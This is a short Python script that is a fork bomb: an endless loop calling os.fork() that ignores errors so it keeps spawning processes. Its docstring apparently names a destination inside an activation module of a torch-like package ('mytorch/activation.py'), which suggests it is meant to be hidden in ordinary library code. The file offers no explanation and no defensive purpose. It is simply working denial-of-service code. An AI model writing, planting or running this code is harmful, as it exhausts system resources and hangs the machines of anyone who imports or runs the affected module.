"""Forks for ever.

Into: spring mytorch/activation.py
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
